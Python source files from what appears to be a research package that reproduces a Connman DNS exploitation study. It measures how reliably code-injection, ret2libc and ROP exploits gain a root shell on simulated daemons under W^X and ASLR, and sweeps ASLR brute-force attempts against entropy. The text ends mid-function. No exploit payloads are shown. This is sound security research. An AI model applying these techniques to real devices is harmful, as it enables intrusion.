    #: When set, every unknown name resolves here (captive-portal style).
    default_address: Optional[str] = None
    ttl: int = 300
    log: List[QueryLogEntry] = field(default_factory=list)

    @classmethod
    def from_zone(cls, zone, **kwargs) -> "SimpleDnsServer":
        """Build a server from a parsed :class:`repro.dns.zonefile.Zone`."""
        server = cls(**kwargs)
        server.load_zone(zone)
        return server

    def load_zone(self, zone) -> None:
        for record in zone.records:
            key = record.name.lower()
            if record.rtype == RecordType.A:
                self.zone[key] = record.address
            elif record.rtype == RecordType.AAAA:
                self.zone6[key] = record.address
            elif record.rtype == RecordType.CNAME:
                target, _ = decode_name(record.rdata, 0)
                self.cnames[key] = target

    def add_record(self, name: str, address: str) -> None:
        self.zone[name.lower()] = address

    def add_cname(self, alias: str, target: str) -> None:
        self.cnames[alias.lower()] = target

    def lookup(self, name: str, qtype: int) -> List[ResourceRecord]:
        """Resolve a name, following CNAMEs; returns the full answer chain."""
        answers: List[ResourceRecord] = []
        current = name
        for _ in range(MAX_CNAME_CHAIN):
            key = current.lower()
            if key in self.cnames:
                target = self.cnames[key]
                answers.append(ResourceRecord.cname(current, target, ttl=self.ttl))
                current = target
                continue
            terminal = self._terminal_lookup(current, qtype)
            if terminal is not None:
                answers.append(terminal)
            return answers if terminal is not None else []
        return []  # CNAME loop / too deep: treat as unresolvable

    def _terminal_lookup(self, name: str, qtype: int) -> Optional[ResourceRecord]:
        key = name.lower()
        if qtype == RecordType.A:
            address = self.zone.get(key, self.default_address)
            if address is not None:
                return ResourceRecord.a(name, address, ttl=self.ttl)
        elif qtype == RecordType.AAAA:
            address6 = self.zone6.get(key)
            if address6 is not None:
                return ResourceRecord.aaaa(name, address6, ttl=self.ttl)
        return None

    def handle_query(self, packet: bytes) -> Optional[bytes]:
        try:
            query = Message.decode(packet)
        except Exception:
            return None
        if query.is_response or not query.questions:
            return None
        question = query.questions[0]
        answers = self.lookup(question.name, question.qtype)
        self.log.append(
            QueryLogEntry(name=question.name, qtype=question.qtype, answered=bool(answers))
        )
        if not answers:
            return make_response(query, (), rcode=Rcode.NXDOMAIN).encode()
        return make_response(query, tuple(answers)).encode()
