"""Trial checkpointing and resumable sweeps.

A fleet-scale campaign is thousands-to-10^5 independent seeded trials; a
killed orchestrator must not throw away the completed ones.  This module
gives the sweep runner its durability layer:

* :class:`TrialFailure` — the typed quarantine record a trial collapses
  into when it exhausts its retry budget.  Sweeps degrade gracefully: a
  poison trial becomes one failure row, not an aborted campaign.
* :class:`TaskError` — the strict-mode exception, carrying the task
  index and derived seed so "a worker raised" is never anonymous.
* :class:`SweepCheckpoint` — an append-only JSONL journal of completed
  trials keyed by ``(experiment id, grid hash, trial index)``.  Because
  every trial is a pure function of its seeded spec, replaying the
  journal plus re-executing only the missing indices reproduces an
  uninterrupted sweep's results byte for byte.

Journal format (one JSON object per line)::

    {"schema": "repro-sweep-checkpoint/v1", "experiment": ..., "grid_hash":
     ..., "total": N, "seed": ...}          # header, written once
    {"index": 3, "crc": 1234, "payload": "<base64 pickle>"}   # per trial

The header pins the sweep identity: resuming against a different grid
(different rates, seeds, budgets — anything that changes a task spec)
raises :class:`CheckpointMismatch` instead of silently mixing results.
Each trial line is flushed and fsync'd before the next trial dispatches,
and the loader ignores a truncated trailing line, so a SIGKILL at any
moment loses at most the trial being journaled.

Trust model: the per-line CRC32 is an *integrity* check (torn writes,
bit rot), not authentication — anyone who can edit the journal can
recompute it.  Payloads are therefore decoded with a restricted
unpickler whose ``find_class`` only resolves classes from the ``repro``
package (plus a handful of value-type builtins), so resuming from a
tampered or attacker-supplied ``--resume`` file raises
``UnpicklingError`` instead of executing arbitrary code.

The ``REPRO_SWEEP_KILL_AFTER=N`` environment knob SIGKILLs the process
(and its pool workers) right after the N-th trial is journaled — the
deterministic mid-sweep crash the resume tests and the CI resume smoke
are built on.
"""

from __future__ import annotations

import base64
import binascii
import hashlib
import io
import json
import multiprocessing
import os
import pickle
import signal
from dataclasses import dataclass
from typing import Any, Dict, Iterable, Optional

CHECKPOINT_SCHEMA = "repro-sweep-checkpoint/v1"

#: Columnar results artifact: one JSONL row per grid trial.
RESULTS_SCHEMA = "repro-results/v1"

#: Environment knob: SIGKILL the sweep after journaling this many trials.
KILL_AFTER_ENV = "REPRO_SWEEP_KILL_AFTER"


@dataclass(frozen=True)
class TrialFailure:
    """One quarantined trial: retry budget exhausted, sweep continued.

    Occupies the trial's positional slot in a supervised sweep's results
    so downstream consumers can tell *which* trial degraded; ``seed`` is
    the trial's derived seed when the task spec exposes one.
    """

    index: int
    kind: str  # "error" | "timeout"
    attempts: int
    error: str
    seed: Optional[int] = None
    task: str = ""
    traceback: str = ""

    def describe(self) -> str:
        where = f"task {self.index}"
        if self.seed is not None:
            where += f" (seed {self.seed})"
        return (f"{where} quarantined after {self.attempts} attempt(s): "
                f"{self.kind}: {self.error}")

    def to_dict(self) -> dict:
        return {
            "index": self.index,
            "kind": self.kind,
            "attempts": self.attempts,
            "error": self.error,
            "seed": self.seed,
            "task": self.task,
        }


class TaskError(RuntimeError):
    """Strict-mode sweep abort: carries the failing task's identity.

    The pre-resilience runner re-raised a bare worker exception with no
    indication of which task or seed died; this wrapper pins both.
    """

    def __init__(self, failure: TrialFailure):
        self.failure = failure
        super().__init__(failure.describe())

    @property
    def index(self) -> int:
        return self.failure.index

    @property
    def seed(self) -> Optional[int]:
        return self.failure.seed


def derive_task_seed(task: Any) -> Optional[int]:
    """Best-effort derived seed of a task spec (for failure context).

    Seeded specs in this codebase expose one of these attributes
    (:class:`~repro.exploit.bruteforce.BruteForceTrial` has
    ``victim_seed``/``derived_seed``); tuple-shaped tasks pass an
    explicit ``seed_of`` callable to the runner instead.
    """
    for attr in ("derived_seed", "victim_seed", "seed"):
        value = getattr(task, attr, None)
        if isinstance(value, int) and not isinstance(value, bool):
            return value
    return None


def grid_hash(tasks: Iterable[Any]) -> str:
    """Stable digest of a sweep's full task grid.

    Task specs are tuples/frozen dataclasses of primitives, so their
    ``repr`` is deterministic across processes and sessions — unlike
    ``hash()``, which PYTHONHASHSEED perturbs.  Any change to the grid
    (an extra rate, a different seed or budget) changes the digest and
    invalidates old checkpoints.
    """
    digest = hashlib.sha256()
    for task in tasks:
        digest.update(repr(task).encode("utf-8"))
        digest.update(b"\x00")
    return digest.hexdigest()[:16]


class CheckpointMismatch(ValueError):
    """A checkpoint journal that does not match the sweep being resumed."""


def _encode_payload(result: Any) -> Dict[str, Any]:
    blob = pickle.dumps(result, protocol=pickle.HIGHEST_PROTOCOL)
    return {
        "crc": binascii.crc32(blob) & 0xFFFFFFFF,
        "payload": base64.b64encode(blob).decode("ascii"),
    }


#: Value-type builtins a trial payload may legitimately reference via
#: ``find_class`` (containers/scalars with dedicated opcodes never hit it).
_SAFE_BUILTINS = frozenset({"set", "frozenset", "complex", "bytearray"})


class _RestrictedUnpickler(pickle.Unpickler):
    """Unpickler that only resolves globals from this codebase.

    A journal's CRC proves the line survived a torn write, not that it
    came from a trusted run — a hostile ``--resume`` file can carry a
    valid CRC over a malicious pickle.  Refusing every global outside
    the ``repro`` package (and a short builtins allowlist) turns that
    from arbitrary code execution into an ``UnpicklingError``.  Dotted
    names are rejected outright: protocol ≥4 resolves them attribute by
    attribute, which would reach modules *imported by* repro (e.g.
    ``repro.core.resume`` + ``os.kill``).
    """

    def find_class(self, module: str, name: str) -> Any:
        if "." not in name:
            if module == "repro" or module.startswith("repro."):
                return super().find_class(module, name)
            if module == "builtins" and name in _SAFE_BUILTINS:
                return super().find_class(module, name)
        raise pickle.UnpicklingError(
            f"checkpoint payload references {module}.{name}, outside the "
            "repro allowlist — refusing to resume from an untrusted journal")


def _decode_payload(record: Dict[str, Any]) -> Any:
    blob = base64.b64decode(record["payload"].encode("ascii"))
    if (binascii.crc32(blob) & 0xFFFFFFFF) != record["crc"]:
        raise ValueError(f"trial {record.get('index')}: payload crc mismatch")
    return _RestrictedUnpickler(io.BytesIO(blob)).load()


class SweepCheckpoint:
    """Append-only JSONL journal of a sweep's completed trials.

    ``resume=False`` starts a fresh journal (truncating any stale file);
    ``resume=True`` loads completed trials from an existing journal after
    validating that its header matches this sweep's identity, then keeps
    appending.  A missing or empty file resumes to "nothing completed
    yet", so retrying a run that died before its first trial just works.
    """

    def __init__(self, path: str, *, experiment: str, grid_hash: str,
                 total: int, seed: Optional[int] = None, resume: bool = False):
        self.path = path
        self.experiment = experiment
        self.grid_hash = grid_hash
        self.total = total
        self.seed = seed
        #: Trials already completed in a previous run (index -> result).
        self.completed: Dict[int, Any] = {}
        #: Trials journaled by *this* run (the kill-knob counts these).
        self.recorded = 0
        #: Whether _load saw a valid header — NOT inferable from
        #: ``completed``: a run killed before its first trial leaves a
        #: header-only journal, and appending a second header would break
        #: the "header written once" invariant.
        self._header_seen = False
        if resume and os.path.exists(path):
            self._load()
        header_needed = not self._header_seen
        directory = os.path.dirname(path)
        if directory:
            os.makedirs(directory, exist_ok=True)
        self._handle = open(path, "a" if resume else "w", encoding="utf-8")
        if header_needed:
            self._append({
                "schema": CHECKPOINT_SCHEMA,
                "experiment": experiment,
                "grid_hash": grid_hash,
                "total": total,
                "seed": seed,
            })

    # -- loading ---------------------------------------------------------------

    def _load(self) -> None:
        with open(self.path, "r", encoding="utf-8") as handle:
            lines = handle.read().splitlines()
        if not lines:
            return
        try:
            header = json.loads(lines[0])
        except json.JSONDecodeError:
            raise CheckpointMismatch(
                f"checkpoint {self.path}: unreadable header line")
        for key, expected in (("schema", CHECKPOINT_SCHEMA),
                              ("experiment", self.experiment),
                              ("grid_hash", self.grid_hash),
                              ("total", self.total)):
            if header.get(key) != expected:
                raise CheckpointMismatch(
                    f"checkpoint {self.path}: {key} mismatch "
                    f"({header.get(key)!r} != {expected!r}) — the journal "
                    "belongs to a different sweep; remove it or fix the args")
        self._header_seen = True
        for line in lines[1:]:
            try:
                record = json.loads(line)
                index = record["index"]
                result = _decode_payload(record)
            except (json.JSONDecodeError, KeyError, ValueError,
                    binascii.Error, pickle.UnpicklingError):
                # A SIGKILL mid-write leaves at most one torn trailing
                # line; that trial simply re-executes.
                continue
            if isinstance(index, int) and 0 <= index < self.total:
                self.completed[index] = result

    # -- journaling ------------------------------------------------------------

    def _append(self, record: Dict[str, Any]) -> None:
        self._handle.write(json.dumps(record, sort_keys=True) + "\n")
        self._handle.flush()
        os.fsync(self._handle.fileno())

    def record(self, index: int, result: Any) -> None:
        """Durably journal one completed trial, then honor the kill knob."""
        self._append({"index": index, **_encode_payload(result)})
        self.recorded += 1
        self._maybe_die()

    def _maybe_die(self) -> None:
        raw = os.environ.get(KILL_AFTER_ENV, "")
        try:
            kill_after = int(raw) if raw else 0
        except ValueError:
            kill_after = 0
        if kill_after and self.recorded >= kill_after:
            # The deterministic mid-sweep crash: take the pool down too so
            # the interrupted run leaks no orphaned workers, then die the
            # hard way — no atexit, no flushing, exactly like the OOM
            # killer or a pulled plug.
            for child in multiprocessing.active_children():
                try:
                    os.kill(child.pid, signal.SIGKILL)
                except OSError:  # pragma: no cover - already gone
                    pass
            os.kill(os.getpid(), signal.SIGKILL)

    def close(self) -> None:
        if not self._handle.closed:
            self._handle.close()

    def __enter__(self) -> "SweepCheckpoint":
        return self

    def __exit__(self, *_exc) -> None:
        self.close()

    def describe(self) -> str:
        return (f"checkpoint {self.path}: {len(self.completed)} resumed + "
                f"{self.recorded} journaled of {self.total} trials "
                f"({self.experiment}, grid {self.grid_hash})")


# -- the repro-results/v1 artifact ---------------------------------------------
#
# The registry orchestrator's output format: a header line pinning the
# experiment identity plus one JSON object per trial
# (index/params/seed/outcome/expected/metrics/result/error).  Unlike the
# checkpoint journal it carries no pickles — plain JSON a dashboard, the
# bench gate, or an external notebook can read — and it is written
# canonically (sorted keys, no timestamps), so a resumed sweep's artifact
# is byte-identical to the uninterrupted run's.

#: header field -> required type
_RESULTS_HEADER_FIELDS = (
    ("schema", str), ("experiment", str), ("title", str),
    ("grid_hash", str), ("total", int), ("seed", int),
)

_RESULTS_ROW_FIELDS = (
    ("index", int), ("params", dict), ("seed", int), ("outcome", str),
    ("expected", bool),
)

_RESULTS_OUTCOMES = ("pass", "fail", "quarantined")


def _results_line(record: Dict[str, Any]) -> str:
    return json.dumps(record, sort_keys=True)


def validate_results(header: Dict[str, Any],
                     rows: Iterable[Dict[str, Any]]) -> None:
    """Schema-check one artifact document; ``ValueError`` names the
    offending row and field."""
    for field_name, kind in _RESULTS_HEADER_FIELDS:
        value = header.get(field_name)
        if not isinstance(value, kind) or (
                kind is int and isinstance(value, bool)):
            raise ValueError(
                f"results header: field {field_name!r} must be "
                f"{kind.__name__}, got {value!r}")
    if header["schema"] != RESULTS_SCHEMA:
        raise ValueError(
            f"results header: schema {header['schema']!r} is not "
            f"{RESULTS_SCHEMA!r}")
    rows = list(rows)
    if header["total"] != len(rows):
        raise ValueError(
            f"results header: total={header['total']} but artifact carries "
            f"{len(rows)} row(s)")
    for position, row in enumerate(rows):
        for field_name, kind in _RESULTS_ROW_FIELDS:
            value = row.get(field_name)
            if not isinstance(value, kind) or (
                    kind is int and isinstance(value, bool)):
                raise ValueError(
                    f"results row {position}: field {field_name!r} must be "
                    f"{kind.__name__}, got {value!r}")
        if row["index"] != position:
            raise ValueError(
                f"results row {position}: index {row['index']} out of order")
        if row["outcome"] not in _RESULTS_OUTCOMES:
            raise ValueError(
                f"results row {position}: outcome {row['outcome']!r} not in "
                f"{_RESULTS_OUTCOMES}")
        if row["outcome"] == "quarantined":
            if row.get("error") is None:
                raise ValueError(
                    f"results row {position}: quarantined trial carries no "
                    "error record")
        elif not isinstance(row.get("result"), dict):
            raise ValueError(
                f"results row {position}: completed trial carries no result "
                "payload")


def write_results(path: str, header: Dict[str, Any],
                  rows: Iterable[Dict[str, Any]]) -> None:
    """Write one validated artifact (canonical JSONL: header, then rows)."""
    rows = list(rows)
    validate_results(header, rows)
    directory = os.path.dirname(path)
    if directory:
        os.makedirs(directory, exist_ok=True)
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(_results_line(header) + "\n")
        for row in rows:
            handle.write(_results_line(row) + "\n")


def load_results(path: str):
    """Read and validate one artifact; returns ``(header, rows)``."""
    with open(path, "r", encoding="utf-8") as handle:
        lines = handle.read().splitlines()
    if not lines:
        raise ValueError(f"results artifact {path}: empty file")
    try:
        header = json.loads(lines[0])
        rows = [json.loads(line) for line in lines[1:] if line.strip()]
    except json.JSONDecodeError as exc:
        raise ValueError(f"results artifact {path}: unreadable JSON: {exc}")
    if not isinstance(header, dict):
        raise ValueError(f"results artifact {path}: header is not an object")
    validate_results(header, rows)
    return header, rows


def load_checkpoint_results(path: str) -> Dict[int, Any]:
    """Read a journal's completed trials without opening it for append."""
    with open(path, "r", encoding="utf-8") as handle:
        lines = handle.read().splitlines()
    completed: Dict[int, Any] = {}
    for line in lines[1:]:
        try:
            record = json.loads(line)
            completed[record["index"]] = _decode_payload(record)
        except (json.JSONDecodeError, KeyError, ValueError,
                binascii.Error, pickle.UnpicklingError):
            continue
    return completed
