"""Plain-text table rendering for experiment output (paper-style rows)."""

from __future__ import annotations

from typing import Iterable, List, Sequence


def render_table(headers: Sequence[str], rows: Iterable[Sequence[object]],
                 title: str = "") -> str:
    """Fixed-width ASCII table; every cell is str()-ed."""
    materialized: List[List[str]] = [[str(cell) for cell in row] for row in rows]
    widths = [len(header) for header in headers]
    for row in materialized:
        for index, cell in enumerate(row):
            widths[index] = max(widths[index], len(cell))

    def line(cells: Sequence[str]) -> str:
        return "  ".join(cell.ljust(width) for cell, width in zip(cells, widths)).rstrip()

    separator = "  ".join("-" * width for width in widths)
    out = []
    if title:
        out.append(title)
        out.append("=" * len(title))
    out.append(line(headers))
    out.append(separator)
    out.extend(line(row) for row in materialized)
    return "\n".join(out)
