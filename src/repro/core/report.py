"""Plain-text table rendering for experiment output (paper-style rows)."""

from __future__ import annotations

from typing import Iterable, List, Sequence


def render_table(headers: Sequence[str], rows: Iterable[Sequence[object]],
                 title: str = "") -> str:
    """Fixed-width ASCII table; every cell is str()-ed.

    Every row must have exactly ``len(headers)`` cells: a short row would
    silently render truncated (``zip`` stops at the narrower side) and a
    long one used to die in the width pass with a bare ``IndexError``, so
    ragged input is rejected up front with the offending row named.
    """
    materialized: List[List[str]] = [[str(cell) for cell in row] for row in rows]
    for position, row in enumerate(materialized):
        if len(row) != len(headers):
            raise ValueError(
                f"render_table: row {position} has {len(row)} cell(s), "
                f"expected {len(headers)} to match headers "
                f"{tuple(headers)!r}: {row!r}")
    widths = [len(header) for header in headers]
    for row in materialized:
        for index, cell in enumerate(row):
            widths[index] = max(widths[index], len(cell))

    def line(cells: Sequence[str]) -> str:
        return "  ".join(cell.ljust(width) for cell, width in zip(cells, widths)).rstrip()

    separator = "  ".join("-" * width for width in widths)
    out = []
    if title:
        out.append(title)
        out.append("=" * len(title))
    out.append(line(headers))
    out.append(separator)
    out.extend(line(row) for row in materialized)
    return "\n".join(out)
