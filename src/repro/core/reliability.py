"""Exploit reliability study (E14).

The paper reports its exploits succeed "under multiple circumstances, with
or without the aid of gdb" — a qualitative reliability claim.  This module
quantifies it: each technique is thrown at N freshly-booted victims (fresh
ASLR draw each boot, one exploit built once from bench recon) and the
success rate is tabulated.  The expected shape:

* techniques that use only non-randomized facts (ROP, jmp-esp) are
  deterministic: N/N against their protection level;
* techniques that embed randomized absolutes (ret2libc, vanilla code
  injection) are N/N without ASLR and ~0/N with it — the residual being
  the 1-in-2^entropy lottery the brute-force experiment (E10) exploits.
"""

from __future__ import annotations

import random
import zlib
from dataclasses import dataclass
from typing import List, Optional, Tuple

from ..connman import ConnmanDaemon
from ..defenses import NONE, WX, WX_ASLR, ProtectionProfile
from ..exploit import (
    ArmCodeInjection,
    ArmExeclpGadget,
    ArmRopMemcpyExeclp,
    X86CodeInjection,
    X86JmpEspInjection,
    X86Ret2Libc,
    X86RopMemcpyExeclp,
    deliver,
)
from .scenarios import AttackScenario, attacker_knowledge

ASLR_ONLY = ProtectionProfile(wx=False, aslr=True)

#: Checkpoint identity for the reliability study (resume validates it).
RELIABILITY_EXPERIMENT_ID = "E14.reliability"


@dataclass(frozen=True)
class ReliabilityCell:
    """One (technique, victim-profile) reliability measurement."""

    technique: str
    arch: str
    victim_profile: str
    successes: int
    trials: int
    expectation: str  # "always" | "never" | "lottery"

    @property
    def rate(self) -> float:
        return self.successes / self.trials if self.trials else 0.0

    @property
    def matches_expectation(self) -> bool:
        if self.expectation == "always":
            return self.successes == self.trials
        if self.expectation == "never":
            return self.successes == 0
        # "lottery": sub-10% is the 1-in-2^entropy residual.
        return self.rate < 0.1

    def row(self):
        return (
            self.technique, self.arch, self.victim_profile,
            f"{self.successes}/{self.trials}", self.expectation,
        )


#: (label, arch, builder factory, recon profile, blind?, victim profile,
#:  expectation)
STUDY_PLAN = (
    ("code-injection", "x86", X86CodeInjection, NONE, False, NONE, "always"),
    ("code-injection", "arm", ArmCodeInjection, NONE, False, NONE, "always"),
    ("code-injection", "x86", X86CodeInjection, NONE, False, ASLR_ONLY, "lottery"),
    ("jmp-esp", "x86", X86JmpEspInjection, ASLR_ONLY, True, ASLR_ONLY, "always"),
    ("ret2libc", "x86", X86Ret2Libc, WX, False, WX, "always"),
    ("ret2libc", "x86", X86Ret2Libc, WX_ASLR, True, WX_ASLR, "lottery"),
    ("gadget-execlp", "arm", ArmExeclpGadget, WX, False, WX, "always"),
    ("rop", "x86", X86RopMemcpyExeclp, WX_ASLR, True, WX_ASLR, "always"),
    ("rop", "arm", ArmRopMemcpyExeclp, WX_ASLR, True, WX_ASLR, "always"),
)


def _reliability_cell(task: Tuple[int, int, int]) -> ReliabilityCell:
    """Worker: one STUDY_PLAN row's full trial series (pool-picklable).

    Each cell's rng is derived from a stable digest of the cell key, never
    from other cells' progress — so the fan-out is order-independent and
    ``workers=N`` reproduces the sequential study exactly.
    """
    plan_index, trials, seed = task
    label, arch, builder_cls, recon_profile, blind, victim_profile, expectation = (
        STUDY_PLAN[plan_index]
    )
    knowledge = attacker_knowledge(
        AttackScenario(arch, "reliability", recon_profile)
    ) if not blind else attacker_knowledge(
        AttackScenario(arch, "reliability", victim_profile)
    )
    exploit = builder_cls().build(knowledge)
    # crc32, not hash(): str hashes are randomized per process
    # (PYTHONHASHSEED), which made the study's lottery cells flaky —
    # a different derived seed could hand the 1-in-2^entropy win to a
    # 6-trial run.  A stable digest keeps E14 bit-identical everywhere.
    cell_key = f"{label}/{arch}/{victim_profile.label()}"
    rng = random.Random(seed ^ (zlib.crc32(cell_key.encode()) & 0xFFFF))
    successes = 0
    victim = ConnmanDaemon(arch=arch, profile=victim_profile, rng=rng)
    for _trial in range(trials):
        if not victim.alive:
            victim.restart()
        if deliver(exploit, victim, rng=rng).got_root_shell:
            successes += 1
            victim.restart()
    return ReliabilityCell(
        technique=label,
        arch=arch,
        victim_profile=victim_profile.label(),
        successes=successes,
        trials=trials,
        expectation=expectation,
    )


def run_reliability_study(trials: int = 10, seed: int = 0xE14, *,
                          workers: Optional[int] = 1, policy=None,
                          checkpoint: Optional[str] = None,
                          resume: bool = False,
                          observer=None) -> List[ReliabilityCell]:
    """Build each exploit once, deliver it to ``trials`` fresh boots.

    Like the entropy sweep, the study journals per STUDY_PLAN cell when
    given a ``checkpoint`` path: a killed run resumes (``resume=True``)
    by re-executing only the cells the journal is missing, and the cells
    are seed-independent, so the resumed table matches the uninterrupted
    one exactly.
    """
    from .parallel import run_tasks
    from .resume import SweepCheckpoint, grid_hash

    tasks = [(index, trials, seed) for index in range(len(STUDY_PLAN))]
    journal = None
    if checkpoint is not None:
        journal = SweepCheckpoint(
            checkpoint, experiment=RELIABILITY_EXPERIMENT_ID,
            grid_hash=grid_hash(tasks), total=len(tasks), seed=seed,
            resume=resume,
        )
    try:
        # seed_of: failure context for tuple-shaped tasks (the derived
        # study seed lives in slot 2 of each spec).
        return run_tasks(_reliability_cell, tasks, workers=workers,
                         policy=policy, checkpoint=journal,
                         observer=observer, seed_of=lambda task: task[2],
                         label="reliability")
    finally:
        if journal is not None:
            journal.close()
