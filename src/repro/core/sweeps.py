"""Parameter sweeps — the figure-series experiments.

E15 sweeps ASLR entropy against the brute-force attack: the defining
weakness of 32-bit randomization is that attempts scale *linearly* with
the randomization span, and IoT-class devices cannot afford wide spans.
The series regenerates the classic "expected attempts ≈ entropy" curve and
shows the medians tracking the span as it grows 16 → 1024 pages.
"""

from __future__ import annotations

import statistics
from dataclasses import dataclass
from typing import List, Optional, Sequence

from ..exploit import BruteForceTrial, run_bruteforce_trial
from .parallel import RunPolicy, run_tasks
from .registry import derive_seed
from .resume import SweepCheckpoint, grid_hash

DEFAULT_ENTROPY_SERIES = (16, 64, 256, 1024)

#: Checkpoint identity for the entropy sweep (resume validates against it).
ENTROPY_EXPERIMENT_ID = "E15.entropy"


@dataclass(frozen=True)
class EntropyPoint:
    entropy_pages: int
    attempts: List[int]

    @property
    def median_attempts(self) -> float:
        return statistics.median(self.attempts)

    @property
    def expected_attempts(self) -> float:
        """The randomization span — the order-of-magnitude yardstick (the
        geometric distribution's median is ~0.69x this)."""
        return float(self.entropy_pages)

    @property
    def plausible(self) -> bool:
        """Per-point sanity: every run succeeded, and the median did not
        exceed the span by more than the heavy geometric tail allows.

        (A lower bound is deliberately not checked per point — small
        samples of a geometric distribution routinely draw lucky tiny
        values; the cross-point scaling check carries the real claim.)
        """
        if not self.attempts:
            return False
        return self.median_attempts <= self.expected_attempts * 16

    def row(self):
        return (
            self.entropy_pages,
            f"{self.median_attempts:.0f}",
            f"{min(self.attempts)}..{max(self.attempts)}",
        )


def sweep_bruteforce_entropy(
    entropy_series: Sequence[int] = DEFAULT_ENTROPY_SERIES,
    runs_per_point: int = 5,
    seed: int = 0xE15,
    *,
    workers: Optional[int] = 1,
    policy: Optional[RunPolicy] = None,
    checkpoint: Optional[str] = None,
    resume: bool = False,
    observer=None,
) -> List[EntropyPoint]:
    """Median brute-force attempts as the randomization span grows.

    Every (entropy, run) trial carries its own derived seed, so the fan-out
    is order-independent: ``workers=N`` produces the exact attempt lists of
    the sequential sweep — and a ``checkpoint``-journaled run killed
    mid-sweep resumes (``resume=True``) to the same lists, re-executing
    only the missing trials.  This series needs every trial (the medians
    are positional), so the sweep stays strict: a trial that exhausts the
    policy's retry budget raises :class:`~repro.core.resume.TaskError`
    with its index and derived victim seed attached.

    Seeds come from :func:`~repro.core.registry.derive_seed` (crc32 over
    ``experiment/entropy/run/role``).  The old XOR-plus-one stacking made
    run N's attacker share run N+1's victim stream (``(base^run)+1 ==
    base^(run+1)`` whenever ``run`` is even), quietly correlating
    adjacent trials of the very independence this series measures.
    """
    trials = [
        BruteForceTrial(
            victim_seed=seed ^ derive_seed(
                ENTROPY_EXPERIMENT_ID, entropy, run, "victim"),
            attacker_seed=seed ^ derive_seed(
                ENTROPY_EXPERIMENT_ID, entropy, run, "attacker"),
            max_attempts=entropy * 16,
            entropy_pages=entropy,
        )
        for entropy in entropy_series
        for run in range(runs_per_point)
    ]
    journal = None
    if checkpoint is not None:
        journal = SweepCheckpoint(
            checkpoint, experiment=ENTROPY_EXPERIMENT_ID,
            grid_hash=grid_hash(trials), total=len(trials), seed=seed,
            resume=resume,
        )
    try:
        results = run_tasks(run_bruteforce_trial, trials, workers=workers,
                            policy=policy, checkpoint=journal,
                            observer=observer, label="entropy")
    finally:
        if journal is not None:
            journal.close()
    points: List[EntropyPoint] = []
    for index, entropy in enumerate(entropy_series):
        slice_ = results[index * runs_per_point : (index + 1) * runs_per_point]
        for run, result in enumerate(slice_):
            assert result.succeeded, (entropy, run)
        points.append(
            EntropyPoint(entropy_pages=entropy,
                         attempts=[result.attempts for result in slice_])
        )
    return points
