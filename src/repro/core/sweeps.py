"""Parameter sweeps — the figure-series experiments.

E15 sweeps ASLR entropy against the brute-force attack: the defining
weakness of 32-bit randomization is that attempts scale *linearly* with
the randomization span, and IoT-class devices cannot afford wide spans.
The series regenerates the classic "expected attempts ≈ entropy" curve and
shows the medians tracking the span as it grows 16 → 1024 pages.
"""

from __future__ import annotations

import random
import statistics
from dataclasses import dataclass
from typing import List, Sequence

from ..connman import ConnmanDaemon
from ..defenses import WX_ASLR
from ..exploit import AslrBruteForcer

DEFAULT_ENTROPY_SERIES = (16, 64, 256, 1024)


@dataclass(frozen=True)
class EntropyPoint:
    entropy_pages: int
    attempts: List[int]

    @property
    def median_attempts(self) -> float:
        return statistics.median(self.attempts)

    @property
    def expected_attempts(self) -> float:
        """The randomization span — the order-of-magnitude yardstick (the
        geometric distribution's median is ~0.69x this)."""
        return float(self.entropy_pages)

    @property
    def plausible(self) -> bool:
        """Per-point sanity: every run succeeded, and the median did not
        exceed the span by more than the heavy geometric tail allows.

        (A lower bound is deliberately not checked per point — small
        samples of a geometric distribution routinely draw lucky tiny
        values; the cross-point scaling check carries the real claim.)
        """
        if not self.attempts:
            return False
        return self.median_attempts <= self.expected_attempts * 16

    def row(self):
        return (
            self.entropy_pages,
            f"{self.median_attempts:.0f}",
            f"{min(self.attempts)}..{max(self.attempts)}",
        )


def sweep_bruteforce_entropy(
    entropy_series: Sequence[int] = DEFAULT_ENTROPY_SERIES,
    runs_per_point: int = 5,
    seed: int = 0xE15,
) -> List[EntropyPoint]:
    """Median brute-force attempts as the randomization span grows."""
    points: List[EntropyPoint] = []
    for entropy in entropy_series:
        attempts: List[int] = []
        for run in range(runs_per_point):
            run_seed = seed ^ (entropy << 4) ^ run
            victim = ConnmanDaemon(
                arch="x86",
                profile=WX_ASLR.with_(aslr_entropy_pages=entropy),
                rng=random.Random(run_seed),
            )
            forcer = AslrBruteForcer(
                victim,
                max_attempts=entropy * 16,
                rng=random.Random(run_seed + 1),
            )
            result = forcer.run()
            assert result.succeeded, (entropy, run)
            attempts.append(result.attempts)
        points.append(EntropyPoint(entropy_pages=entropy, attempts=attempts))
    return points
