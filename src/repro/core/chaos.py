"""Chaos sweeps: availability, degradation, and attack success under faults.

One sweep point = one fault level.  For each level the harness boots a
supervised x86 victim (W^X + ASLR), runs a client workload through a
:class:`~repro.dns.ResilientResolver` whose upstreams sit behind the
seeded fault fabric (with a scripted total-outage window to exercise
serve-stale), then runs the §VI ASLR brute force against the same daemon —
with the attacker's spoofed replies crossing the same lossy fabric and the
crashed daemon coming back only through the supervisor's restart budget.

Everything is seeded: two sweeps with the same seed produce identical
:class:`ReliabilityReport`\\ s, byte for byte.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, List, Optional, Sequence, Tuple

if TYPE_CHECKING:  # pragma: no cover - typing only
    from ..obs.metrics import MetricsRegistry

from ..connman import ConnmanDaemon, DaemonSupervisor
from ..defenses import WX_ASLR
from ..dns import ResilientResolver, SimpleDnsServer, make_query
from ..exploit import AslrBruteForcer
from ..net import FaultPolicy, faulty_transport
from ..obs import Collector, TimeSeriesStore
from .parallel import (DEFAULT_POLICY, RunPolicy, SweepStats, resolve_workers,
                       run_supervised)
from .resume import SweepCheckpoint, TrialFailure, grid_hash
from .report import render_table

#: Client names rotate through this many hosts (so revisits hit the cache).
NAME_POOL = 6
#: TTL clock advance per query: entries expire between revisits.
CLOCK_STEP = 90.0
#: Resolver timeout against the fault fabric's delay distribution.
TIMEOUT_MS = 250.0


@dataclass(frozen=True)
class ChaosCell:
    """One fault level's measurements."""

    fault_rate: float
    queries: int
    answered: int
    stale: int
    failed: int
    faults_injected: int
    restarts: int
    supervisor_gave_up: bool
    availability: float
    attack_attempts: int
    attack_succeeded: bool
    attack_halted: bool

    @property
    def error_rate(self) -> float:
        return self.failed / self.queries if self.queries else 0.0

    def attack_verdict(self) -> str:
        if self.attack_succeeded:
            return f"root shell @{self.attack_attempts}"
        if self.attack_halted:
